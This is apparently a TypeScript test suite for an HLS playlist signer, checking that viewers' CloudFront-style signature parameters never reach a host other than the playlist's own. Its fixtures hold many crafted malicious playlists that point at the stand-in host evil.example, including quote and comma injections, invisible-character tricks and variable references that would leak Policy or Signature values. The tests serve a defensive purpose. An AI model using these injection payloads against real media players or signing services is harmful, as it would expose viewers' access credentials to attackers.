/** A viewer's signature goes to the playlist's own host and to nobody else, whatever the playlist says. */

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { SignerError } from '../../../signer/src/index.ts';
import { preparePlaylist } from '../../../signer/src/playlist/index.ts';
import { DOMAIN, failureOf } from '../fixtures.ts';
import { FOLDER, HOST, hostByHlsJs, sign, textsByHlsJs } from './fixtures.ts';

const URL_OF_PLAYLIST = `${FOLDER}index.m3u8`;
/** What the player's own URL carries; each value is found again wherever it goes. */
const SIGNED_URL = `${URL_OF_PLAYLIST}?Policy=VIEWERS-POLICY&Signature=VIEWERS-SIGNATURE&Key-Pair-Id=VIEWERS-ID`;
const NAMES = ['Policy', 'Signature', 'Key-Pair-Id', 'Expires', 'Hash-Algorithm'];

const prepare = (m3u8: string) => preparePlaylist(m3u8, { url: URL_OF_PLAYLIST });
const key = (uri: string) => `#EXTM3U\n#EXTINF:4,\na.ts\n#EXT-X-KEY:METHOD=AES-128,URI="${uri}"\n`;
const defined = (value: string, uri: string) =>
  `#EXTM3U\n#EXT-X-DEFINE:NAME="a",VALUE="${value}"\n#EXTINF:4,\n${uri}\n`;

/** One attribute for hls.js, whose quote ends before a comma only, and two for most others. */
const HIDDEN_IN_A_QUOTE = `#EXTM3U
#EXT-X-TARGETDURATION:4
#EXT-X-MAP:URI="//evil.example/?"x,URI="a.mp4"
#EXTINF:4,
a.ts
`;

/** Hosts to which hls.js would send a part of the signature: not CloudFront's, nor the one that serves the playlist. */
function strangersTold(playlist: string, url: string, secret: RegExp): string[] {
  return textsByHlsJs(playlist, url)
    .filter((text) => secret.test(text))
    .map((text) => hostByHlsJs(text, url))
    .filter((host) => ![DOMAIN, new URL(url).host, ''].includes(host));
}

describe('a URI with white space or a control character that players drop', () => {
  const dropped = [
    ...[' ', '\t', '\u0001', '\u001f', '\u007f', '\u0080', '\u00a0', '\u1680', '\u2003', '\u202f', '\u3000'],
    ...['\u200b', '\u2060', '\ufeff'],
  ];

  it.each(dropped.map((one) => [one]))('is refused: %j', async (blank) => {
    for (const address of ['http://evil.example/key', '//evil.example/key', 'key.bin']) {
      for (const uri of [`${blank}${address}`, `${blank}${blank}${address}`]) {
        for (const text of [key(uri), defined(uri, '{$a}'), defined(blank, `{$a}${address}`)]) {
          expect(await refusalsOf(text)).toEqual(['ERR_PLAYLIST_URI', 'ERR_PLAYLIST_URI']);
        }
      }
    }
    expect(await refusalsOf(key(`key.bin${blank}`))).toEqual(['ERR_PLAYLIST_URI', 'ERR_PLAYLIST_URI']);
  });

  it.each(['\t', '\u00a0', '\u3000', '\ufeff', '\\'])('is refused with %j inside', async (blank) => {
    const text = key(`http${blank}://evil.example/key`);
    expect(await refusalsOf(text)).toEqual(['ERR_PLAYLIST_URI', 'ERR_PLAYLIST_URI']);
  });

  it('says on which line, and what to do', async () => {
    const failure = await failureOf(() => prepare(key(' http://evil.example/key')));
    expect(failure.message).toBe(
      'line 4: this URI cannot be signed: it starts or ends with white space, which players drop; remove it',
    );
  });

  it('keeps a space inside, which all read as %20', () => {
    expect(prepare(key('a b.bin')).playlist).toContain('URI="a b.bin?Policy={$Policy}&');
  });
});

describe('a playlist that players read in more ways than one is refused', () => {
  it.each([
    ['a character that ends a line for some', key('a\u2028http://evil.example/'), 'ERR_PLAYLIST_FORM'],
    ['the same in a comment', '#EXTM3U\n# \u2029http://evil.example/\na.ts\n', 'ERR_PLAYLIST_FORM'],
    ['the same in Python', key('a\u0085http://evil.example/'), 'ERR_PLAYLIST_FORM'],
    ['a quote that does not end its value', key('http://evil.example/?"x,URI="a'), 'ERR_PLAYLIST_FORM'],
    [
      'a quote behind a blank, with a comma',
      '#EXTM3U\n#EXT-X-MAP:URI= "a,URI=//evil.example/"\n',
      'ERR_PLAYLIST_FORM',
    ],
    ['a quote in a name', '#EXTM3U\n#EXT-X-MAP:A"B=1,URI="a"\n', 'ERR_PLAYLIST_FORM'],
    ['no duration', '#EXTM3U\n#EXTINF:\n4//evil.example/a.ts\n', 'ERR_PLAYLIST_FORM'],
    ['no duration, indented', '#EXTM3U\n\u00a0#EXTINF: \n4//evil.example/a.ts\n', 'ERR_PLAYLIST_FORM'],
  ])('%s', async (_, text, code) => {
    expect(await refusalsOf(text)).toEqual([code, code]);
  });

  it('a colon in the first segment of what stays relative, which hls.js takes for a scheme', async () => {
    for (const uri of ['12:30.ts', '1://evil.example/a.ts', '+:a.ts', 'é:a.ts']) {
      const failure = await failureOf(() => prepare(`#EXTM3U\n#EXTINF:4,\n${uri}\n`));
      expect([uri, failure.code]).toEqual([uri, 'ERR_PLAYLIST_URI']);
    }
    for (const uri of ['./12:30.ts', 'a/12:30.ts', `${FOLDER}12:30.ts`, 'a.ts?t=12:30']) {
      expect(prepare(`#EXTM3U\n#EXTINF:4,\n${uri}\n`).preparedCount).toBe(1);
    }
  });
});

describe('a variable that holds a part of the signature', () => {
  it.each(NAMES)('is refused wherever a playlist refers to it: %s', async (name) => {
    const reference = `{$${name}}`;
    for (const line of [
      `#EXT-X-KEY:METHOD=AES-128,URI="http://evil.example/key?p=${reference}"`,
      `#EXT-X-KEY:METHOD=SAMPLE-AES,URI="skd://${reference}"`,
      `#EXT-X-KEY:METHOD=AES-128,URI="data:text/plain,${reference}"`,
      `#EXT-X-KEY:METHOD=AES-128,URI="a.bin",X-OTHER="${reference}"`,
      `#EXT-X-KEY:METHOD=AES-128,X-OTHER="${reference}",URI="a.bin"`,
      `#EXT-X-KEY:METHOD=AES-128,URI="a.bin?p=${reference}"`,
      `#EXT-X-KEY:METHOD=AES-128,URI="a.bin#${reference}"`,
      `#EXT-X-KEY:METHOD=AES-128,URI="${reference}://evil.example/"`,
      `#EXT-X-DEFINE:NAME="a",VALUE="http://evil.example/${reference}"`,
      `#EXT-X-DATERANGE:ID="a",X-COM="http://evil.example/${reference}"`,
      `#EXT-X-SESSION-DATA:DATA-ID="a",VALUE="${reference}"`,
      `#EXT-X-NEW-THING:URI="http://evil.example/${reference}"`,
      `#EXTINF:4,${reference}`,
      `# ${reference}`,
      ` # ${reference}`,
      `http://evil.example/a.ts?${reference}`,
      `a.ts?x=${reference}`,
    ]) {
      const text = `#EXTM3U\n\n${line}\n#EXTINF:4,\na.ts\n`;
      expect([line, ...(await refusalsOf(text))]).toEqual([
        line,
        'ERR_PLAYLIST_VARIABLE',
        'ERR_PLAYLIST_VARIABLE',
      ]);
      expect((await failureOf(() => prepare(text))).message).toMatch(/^line 3: .*Policy, Signature/);
    }
  });

  it('is refused when only its substitution refers to it', async () => {
    const text = defined('{$Pol', 'http://evil.example/?p={$a}icy}');
    expect(await refusalsOf(text)).toEqual(['ERR_PLAYLIST_VARIABLE', 'ERR_PLAYLIST_VARIABLE']);
    expect(await refusalsOf(defined('{$Pol', 'a.ts?p={$a}icy}'))).toEqual([
      'ERR_PLAYLIST_VARIABLE',
      'ERR_PLAYLIST_VARIABLE',
    ]);
  });

  it.each(NAMES)('is defined by nobody else: %s', async (name) => {
    for (const definition of [
      `NAME="${name}",VALUE="x"`,
      `VALUE="x",NAME="${name}"`,
      `IMPORT="${name}"`,
      `QUERYPARAM="x",QUERYPARAM="${name}"`,
      `QUERYPARAM="${name}",NAME="x",VALUE="y"`,
    ]) {
      const text = `#EXTM3U\n#EXT-X-DEFINE:${definition}\n#EXTINF:4,\na.ts\n`;
      expect([definition, ...(await refusalsOf(text))]).toEqual([
        definition,
        'ERR_PLAYLIST_VARIABLE',
        'ERR_PLAYLIST_VARIABLE',
      ]);
    }
    // As preparePlaylist writes it: the next preparation takes its place.
    expect(await refusalsOf(`#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM="${name}"\na.ts\n`)).toEqual([]);
  });

  it('is another than one whose name is only similar', async () => {
    for (const name of ['policy', 'Policy2', 'My-Policy', 'Key-Pair-ID']) {
      const text = `#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM="${name}"\nhttp://cdn.example.net/?{$${name}}\n`;
      expect(await refusalsOf(text)).toEqual([]);
    }
  });
});

describe('any playlist', () => {
  const evil = ['http://evil.example/', '//evil.example/', 'https:evil.example/', 'evil.example:x'];
  const token = fc.constantFrom(
    ...evil,
    ...['a.ts', '/books/42/', `${HOST}/books/42/`, '?', '#', '&', ',', '"', '=', ';', ':', '4', 'x'],
    ...[' ', '\t', '\u00a0', '\ufeff', '\u200b', '\u2028', '\u2029', '\u0085', '\u0000', '\\', '/', '@'],
    ...['{$a}', '{$b}', '{$Policy}', '{$Signature}', '{$Pol', 'icy}'],
    ...['URI=', 'URI="', 'URI= "', ',URI="', ' X="', 'X=', '"x,URI="'],
    ...['#EXT-X-MAP:', '#EXT-X-MAP:URI="', '#EXT-X-KEY:METHOD=AES-128,URI="', '#EXT-X-PART:DURATION=1,URI="'],
    ...['#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="b",URI="', '#EXT-X-I-FRAME-STREAM-INF:BANDWIDTH=1,URI="'],
    ...['\n#EXT-X-DEFINE:NAME="a",VALUE="', '\n#EXT-X-DEFINE:QUERYPARAM="Policy"\n', '#EXT-X-NEW:URI="'],
    ...['#EXTINF:', '#EXTINF:\n', '#EXTINF:4,', '#EXTINF:4,\n', '#EXT-X-STREAM-INF:BANDWIDTH=1\n', '# '],
    ...['"\n', '"\n', '\n', '\n', '\r\n', '\r'],
  );
  const playlist = fc
    .array(token, { maxLength: 14 })
    .map((tokens) => `#EXTM3U\n#EXT-X-TARGETDURATION:4\n${tokens.join('')}`);

  it('that is prepared tells the signature to its own host alone, as hls.js reads it', () => {
    fc.assert(
      fc.property(playlist, (text) => {
        const prepared = unlessRefused(() => prepare(text).playlist);
        if (prepared === undefined) return;
        expect(strangersTold(prepared, SIGNED_URL, /VIEWERS-/)).toEqual([]);
      }),
      { numRuns: 20_000, examples: [[HIDDEN_IN_A_QUOTE]] },
    );
  });

  it('that is signed tells the signature to its own host alone, as hls.js reads it', async () => {
    const url = 'https://api.example.com/play/42/index.m3u8';
    await fc.assert(
      fc.asyncProperty(playlist, async (text) => {
        const signed = await sign(text, { variants: 'prepared' }).catch(notRefused);
        if (signed === undefined) return;
        expect(strangersTold(signed.playlist, url, /Signature=[\w~-]{8}/)).toEqual([]);
      }),
      { numRuns: 5_000, examples: [[HIDDEN_IN_A_QUOTE]] },
    );
  });

  it('has every URI that counts as its own read so by the URL parser of browsers', () => {
    const part = fc.constantFrom(
      ...evil,
      ...['a', '..', '.', '/', '//', '\\', '%2e', '%2E%2e', '%5c', '%2f', '?', '#', '@', ':', ';', ' ', 'é'],
      ...['\t', '\r', '\u00a0', '\ufeff', '\u3000', '\u007f', '\u0080', '\ud800', '|', '^', '[', '`', '&'],
      ...['https:', 'http:', 'HTTPS://', DOMAIN, DOMAIN.toUpperCase(), 'ｍ', '\u3002', ':443', HOST, FOLDER],
    );
    fc.assert(
      fc.property(fc.array(part, { minLength: 1, maxLength: 8 }), (parts) => {
        const uri = parts.join('');
        const prepared = unlessRefused(() => prepare(`#EXTM3U\n#EXT-X-MAP:URI="${uri}"\n`));
        if (prepared === undefined || prepared.preparedCount === 0) return;
        const read = new URL(uri.trim(), URL_OF_PLAYLIST);
        expect([read.protocol, read.host]).toEqual(['https:', DOMAIN]);
        expect(read.pathname.startsWith('/books/42/')).toBe(true);
        const { searchParams } = new URL(/URI="([^"]*)"/.exec(prepared.playlist)?.[1] ?? '', URL_OF_PLAYLIST);
        expect(searchParams.get('Signature')).toBe('{$Signature}');
      }),
      { numRuns: 20_000 },
    );
  });
});

/** The codes with which the two calls refuse a playlist. */
async function refusalsOf(text: string): Promise<unknown[]> {
  const codes: unknown[] = [];
  try {
    prepare(text);
  } catch (error) {
    codes.push((error as SignerError).code);
  }
  await sign(text, { variants: 'prepared' }).catch((error: SignerError) => codes.push(error.code));
  return codes;
}

function unlessRefused<Result>(call: () => Result): Result | undefined {
  try {
    return call();
  } catch (error) {
    return notRefused(error);
  }
}

function notRefused(error: unknown): undefined {
  if (error instanceof SignerError && error.code.startsWith('ERR_PLAYLIST_')) return undefined;
  throw error;
}

describe('a variable whose value would end the attribute', () => {
  const EVIL = 'https://evil.example/a';
  const head = (value: string) => `#EXTM3U\n#EXT-X-DEFINE:NAME="q",VALUE=${value}\n`;
  const imported = (line: string) => `#EXTM3U\n#EXT-X-DEFINE:IMPORT="q"\n${line}\n#EXTINF:4,\na.ts\n`;
  const quoted = { q: `x",URI="${EVIL}` };
  const cases: [string, string, Record<string, string>][] = [
    ['a comma where the attribute has no quotes', `${head(`"x,URI=${EVIL}"`)}#EXT-X-MAP:URI={$q}\n`, {}],
    ['the same behind "./"', `${head(`"x,URI=${EVIL}"`)}#EXT-X-MAP:URI=./{$q}\n`, {}],
    [
      'a quote of an unquoted value',
      `#EXTM3U\n#EXT-X-DEFINE:NAME="e",VALUE=x"\n#EXT-X-DEFINE:NAME="q",VALUE=URI="${EVIL}"\n#EXT-X-MAP:URI="a{$e},{$q}"\n`,
      {},
    ],
    ['a quote of an imported one', imported('#EXT-X-MAP:URI="{$q}"'), quoted],
    ['a quote in the query string', imported('#EXT-X-KEY:METHOD=AES-128,URI="a.key?{$q}"'), quoted],
    ['a quote in a URI that is left alone', imported('#EXT-X-KEY:METHOD=AES-128,URI="/s/{$q}"'), quoted],
    [
      'a quote in what variantUrl gives back',
      imported('#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="{$q}.m3u8"'),
      quoted,
    ],
  ];

  it.each(cases)('is refused: %s', async (_, m3u8, definitions) => {
    const rules = { definitions, leaveAlone: () => true };
    for (const failure of [
      await failureOf(() => sign(m3u8, { ...rules, variantUrl: (uri) => uri })),
      await failureOf(async () => preparePlaylist(m3u8, { url: URL_OF_PLAYLIST, ...rules })),
    ]) {
      expect(failure.code).toMatch(/^ERR_PLAYLIST_(VARIABLE|URI|FORM)$/);
    }
  });

  it('may hold a comma in an attribute with quotes', async () => {
    const { playlist } = await sign(`${head('"x,1"')}#EXT-X-MAP:URI="{$q}.mp4"\n#EXTINF:4,\na.ts\n`);
    expect(playlist).toContain('/x,1.mp4?');
  });
});
